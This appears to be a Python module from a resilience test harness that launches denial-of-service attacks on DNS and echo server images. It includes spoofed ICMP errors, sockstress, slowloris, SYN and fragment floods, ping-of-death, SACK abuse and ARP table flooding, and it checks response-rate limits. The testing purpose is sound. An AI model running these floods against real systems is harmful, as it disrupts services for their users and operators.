"""The attacks. Each takes an Attacker, the address of the honest clients, the port that the image
serves, and the time at which to end.
"""

import contextlib
import os
import random
import socket
import struct
import time

from attacker import icmp
from frames import ACK, FIN, ICMP, PSH, RST, SYN, UDP, ipv4, tcp, udp
from honest import question

LIMIT = 200  # the name server's default limit of responses per second to a client prefix


def is_over(end):
    return time.monotonic() >= end


def too_big(attacker, client, port, end):
    """ICMP "fragmentation needed" errors that quote packets the image never sent (RFC 5927), with
    path MTUs from 0 to 576.
    """
    while not is_over(end):
        for mtu in (0, 68, 296, 552, 576):
            for quoted in (
                udp(attacker.victim, client, port, random.randrange(1024, 65536), bytes(100)),
                udp(attacker.victim, client, 68, 67, bytes(100)),
                tcp(
                    attacker.victim,
                    client,
                    port,
                    random.randrange(1024, 65536),
                    random.randrange(2**32),
                    0,
                    ACK,
                ),
            ):
                message = icmp(
                    random.choice(attacker.addresses), attacker.victim, 3, 4, mtu, quoted[:28]
                )
                attacker.send(message)


def unreachable(attacker, client, port, end):
    """Every other ICMP error about packets that the image never sent."""
    while not is_over(end):
        for kind, code in (
            (3, 0),
            (3, 1),
            (3, 2),
            (3, 3),
            (3, 13),
            (4, 0),
            (11, 0),
            (11, 1),
            (12, 0),
            (5, 1),
        ):
            quoted = tcp(
                attacker.victim,
                client,
                port,
                random.randrange(32768, 61000),
                random.randrange(2**32),
                0,
                ACK,
            )
            attacker.send(icmp(attacker.addresses[0], attacker.victim, kind, code, 0, quoted[:28]))


def promises(attacker, client, port, end):
    """Connections that announce a message of 65,535 bytes and send one byte of it, in rounds of 250
    at once.
    """
    while not is_over(end):
        round_of = [attacker.connection(port) for _ in range(250)]
        stand = [one for one in round_of if one.establish(1)]
        for one in stand:
            one.write(b"\xff\xff\0")
        time.sleep(1)
        for one in round_of:
            one.send(RST | ACK)
            attacker.forget(one)


def shapes(attacker, client, port, end):
    """Messages of all lengths that begin and end at irregular times, to fragment memory: freed
    blocks lie between blocks in use.
    """
    kept = []
    while not is_over(end):
        one = attacker.connection(port)
        if one.establish(0.5):
            size = random.choice((500, 511, 512, 513, 1024, 1500, 2048, 4096, 16384))
            one.write(struct.pack("!H", size) + os.urandom(random.randrange(min(size, 1400))))
        kept.append(one)
        fragment = ipv4(
            random.choice(attacker.addresses), attacker.victim, UDP,
            os.urandom(random.randrange(8, 1400) & ~7),
            identification=random.randrange(65536), fragment=0x2000 | random.randrange(4000),
        )  # fmt: skip
        attacker.send(fragment)
        if len(kept) > 200:
            gone = kept.pop(random.randrange(len(kept)))
            gone.send(RST | ACK)
            attacker.forget(gone)


def sack_of_every_other_byte(attacker, client, port, end):
    """The peer of an echo stops acknowledging, but SACKs every other byte of the data in flight."""
    while not is_over(end):
        flows = []
        for _ in range(3):
            one = attacker.connection(port, options=b"\2\4\5\xb4\1\1\4\2\1\3\3\7", window=8000)
            if one.establish(1):
                flows.append(one)
        for one in flows:
            fill_flight(one, end)
        for at in range(0, 60_000, 6):
            for one in flows:
                blocks = b"".join(
                    struct.pack(
                        "!II", (one.ack + at + i) % 2**32, (one.ack + at + i + 1) % 2**32
                    )
                    for i in (1, 3, 5)
                )
                one.send(ACK, options=b"\1\1\5" + bytes([2 + len(blocks)]) + blocks)
            if is_over(end):
                break
        for one in flows:
            one.send(RST | ACK)
            attacker.forget(one)


def fill_flight(one, end):
    """Lets the echo's congestion window grow, then leaves a window of data unacknowledged."""
    until = min(end, time.monotonic() + 2)
    while time.monotonic() < until:
        one.write(bytes(1400))
        segment = one.receive(0.05)
        while segment is not None:
            if segment.flags & RST:
                return
            one.ack = (segment.seq + len(segment.data)) % 2**32
            one.send(ACK)
            segment = one.receive(0)
    for _ in range(80):
        one.write(bytes(1400))


def one_byte_segments(attacker, client, port, end):
    """Single bytes with a hole before each: every byte costs a buffer."""
    while not is_over(end):
        one = attacker.connection(port)
        if not one.establish(1):
            continue
        for _ in range(2):
            for i in range(4096):
                one.send(PSH | ACK, b"x", seq=one.seq + 1 + 2 * i)
                if is_over(end):
                    return


def many_with_one_byte_segments(attacker, client, port, end):
    """Single bytes with a hole before each, on many connections in turn."""
    stand = [one for one in (attacker.connection(port) for _ in range(64)) if one.establish(1)]
    at = 1
    while not is_over(end):
        for one in stand:
            one.send(PSH | ACK, b"x", seq=one.seq + at)
        at = at + 2 if at < 60_000 else 1


def closed_windows(attacker, client, port, end):
    """Clients that send many queries, close their window, send a FIN and answer every probe
    (sockstress).
    """
    message = question(7)
    ask = (struct.pack("!H", len(message)) + message) * 30

    def answer_with_a_closed_window(connection):
        def react(segment):
            if not segment.flags & RST:
                connection.send(ACK, ack=connection.ack, window=0, pace=False)

        return react

    while not is_over(end):
        one = attacker.connection(port)
        if not one.establish(0.5):
            continue
        one.react = answer_with_a_closed_window(one)
        one.write(ask, window=0)
        one.send(FIN | ACK, window=0)


def readers_of_nothing(attacker, client, port, end):
    """Peers of an echo that keep sending and never read the echoed data."""
    stand = []
    while not is_over(end):
        if len(stand) < 400:
            one = attacker.connection(port, window=4000)
            if one.establish(0.5):
                one.react = lambda segment: None
                stand.append(one)
        for one in stand[-20:]:
            one.write(bytes(1000))
        if not stand:
            time.sleep(0.01)


def idle_connections(attacker, client, port, end):
    """Established connections that send nothing."""
    while not is_over(end):
        one = attacker.connection(port)
        one.react = open_only(one)


def open_only(one):
    def react(segment):
        if segment.flags & SYN:
            one.send(ACK, seq=one.seq + 1, ack=segment.seq + 1)

    return react


def drops(attacker, client, port, end):
    """A byte now and then on each of many connections (slowloris)."""
    stand = []
    while not is_over(end):
        if len(stand) < 1000:
            one = attacker.connection(port)
            if one.establish(0.2):
                stand.append(one)
        for one in random.sample(stand, min(len(stand), 10)):
            one.write(b"\0")


def churn(attacker, client, port, end):
    """Connections that are opened and reset."""
    while not is_over(end):
        one = attacker.connection(port)
        if one.establish(0.5):
            one.send(RST | ACK)
        attacker.forget(one)


def tiny_segments(attacker, client, port, end):
    """An announced MSS of one byte, small windows and SACK: the most work for the fewest bytes."""
    while not is_over(end):
        one = attacker.connection(port, window=64, options=b"\2\4\0\1\4\2")
        if one.establish(0.5):
            for _ in range(50):
                one.write(bytes(1400))


def syns(attacker, client, port, end):
    """SYNs that are never followed up."""
    while not is_over(end):
        address, from_port = random.choice(attacker.addresses), random.randrange(1024, 65536)
        attacker.send(
            tcp(
                address,
                attacker.victim,
                from_port,
                port,
                random.randrange(2**32),
                0,
                SYN,
                options=b"\2\4\5\xb4",
            )
        )


def fragments(attacker, client, port, end):
    """First, middle and last fragments that overlap and never complete a packet."""
    while not is_over(end):
        at, more = random.randrange(8000), random.choice((0, 0x2000))
        size = random.choice((8, 64, 1480))
        attacker.send(
            ipv4(
                random.choice(attacker.addresses), attacker.victim, random.choice((UDP, ICMP)),
                os.urandom(size),
                identification=random.randrange(200), fragment=more | at,
            )  # fmt: skip
        )


def pings_of_death(attacker, client, port, end):
    """Complete echo requests of 65,000 bytes."""
    while not is_over(end):
        body = icmp("0.0.0.0", "0.0.0.0", 8, 0, 0, bytes(65_000))[20:]
        number = random.randrange(65536)
        address = random.choice(attacker.addresses)
        for at in range(0, len(body), 1480):
            more = 0x2000 if at + 1480 < len(body) else 0
            attacker.send(
                ipv4(address, attacker.victim, ICMP, body[at : at + 1480], number, more | at // 8)
            )


def queries(attacker, client, port, end):
    """Queries over UDP from sixteen addresses at the attacker's full rate. The addresses share one
    prefix. The prefix must receive no more whole answers than the name server's limit, and at most
    half of its other queries may receive a truncated answer.
    """
    attacker.clear_others()
    began, sent = time.monotonic(), attacker.sent
    while not is_over(end):
        address = random.choice(attacker.addresses)
        attacker.send(
            udp(
                address,
                attacker.victim,
                random.randrange(1024, 65536),
                port,
                question(random.randrange(65536)),
            )
        )
    sent = attacker.sent - sent
    time.sleep(0.5)
    seconds = time.monotonic() - began
    answers = [message for message in attacker.datagrams(port) if len(message) >= 12]
    truncated = sum(message[2] >> 1 & 1 for message in answers)
    whole = len(answers) - truncated
    print(f"queries: {sent} sent, {whole} answered whole, {truncated} truncated")
    assert 0 < whole <= LIMIT * (seconds + 1), f"{whole} answers in {seconds:.1f} s"
    assert (
        truncated <= (sent - whole) / 2 + 1
    ), f"{truncated} truncated answers to {sent - whole} queries"
    assert all(len(message) == len(question(0)) for message in answers if message[2] >> 1 & 1)


def odd_names():
    """Questions whose names are extreme for code that hashes, compares and compresses names."""
    in_zone = b"\7example\3org\0"
    room = 255 - len(in_zone)
    while True:
        for label in (b"\0013", b"\1j", b"\1x"):  # all suffixes of such a name have equal hashes
            yield label * 126 + b"\0"
            yield label * (room // 2) + in_zone
        letters = bytes(random.choice(b"aZ0-\0\xff.") for _ in range(room))
        yield b"".join(b"\1" + bytes([letter]) for letter in letters[: room // 2]) + in_zone
        yield b"\77" + os.urandom(63) + in_zone
        yield b"".join(b"\77" + os.urandom(63) for _ in range(3)) + b"\75" + os.urandom(61) + b"\0"
        yield b"\3WwW\7eXaMpLe\3OrG\0"
        yield bytes([0xC0, random.randrange(256)])  # a pointer, at most of itself
        yield b"\3www" * random.randrange(70) + bytes([0xC0, random.randrange(256)])


def names(attacker, client, port, end):
    """Questions with odd names over UDP, and over TCP, which is exempt from the limit of
    responses.
    """

    def message(name, kind):
        head = struct.pack("!6H", random.randrange(65536), 0x0100, 1, 0, 0, 0)
        return head + name + struct.pack("!HH", kind, 1)

    odd = odd_names()
    while not is_over(end):
        with contextlib.suppress(OSError), socket.create_connection(
            (attacker.victim, port), timeout=2
        ) as stream:
            for _ in range(50):
                asked = message(next(odd), random.choice((1, 2, 6, 16, 255)))
                stream.sendall(struct.pack("!H", len(asked)) + asked)
                stream.settimeout(0.2)
                stream.recv(4096)
                for _ in range(20):
                    attacker.send(
                        udp(
                            random.choice(attacker.addresses),
                            attacker.victim,
                            random.randrange(1024, 65536),
                            port,
                            message(next(odd), 1),
                        )
                    )


def noise(attacker, client, port, end):
    """Random bytes after valid headers, to every protocol and port."""
    while not is_over(end):
        address = random.choice(attacker.addresses)
        body = os.urandom(random.randrange(0, 200))
        choice = random.randrange(4)
        if choice == 0:
            attacker.send(ipv4(address, attacker.victim, random.randrange(256), body))
        elif choice == 1:
            attacker.send(udp(address, attacker.victim, random.randrange(65536), port, body))
        elif choice == 2:
            flags = random.randrange(256)
            attacker.send(
                tcp(
                    address,
                    attacker.victim,
                    999,
                    port,
                    random.randrange(2**32),
                    random.randrange(2**32),
                    flags,
                    body,
                )
            )
        else:
            attacker.send(
                icmp(address, attacker.victim, random.randrange(20), random.randrange(20), 0, body)
            )


def address_requests(attacker, client, port, end):
    """ARP requests and replies from all addresses of the prefix, to fill the neighbour table."""
    while not is_over(end):
        sender = f"10.66.{random.randrange(256)}.{random.randrange(256)}"
        if sender not in (attacker.victim, client):
            attacker.pace()
            attacker.arp(random.choice((1, 2)), attacker.mac, sender, attacker.victim, attacker.mac)


# The attacks on each image.
OF_DNS = (too_big, unreachable, promises, shapes, closed_windows, idle_connections, drops, churn,
          syns, fragments, pings_of_death, queries, names, noise, address_requests)  # fmt: skip
OF_ECHO = (too_big, sack_of_every_other_byte, one_byte_segments, many_with_one_byte_segments,
           closed_windows, readers_of_nothing, idle_connections, tiny_segments, churn, syns,
           fragments)  # fmt: skip
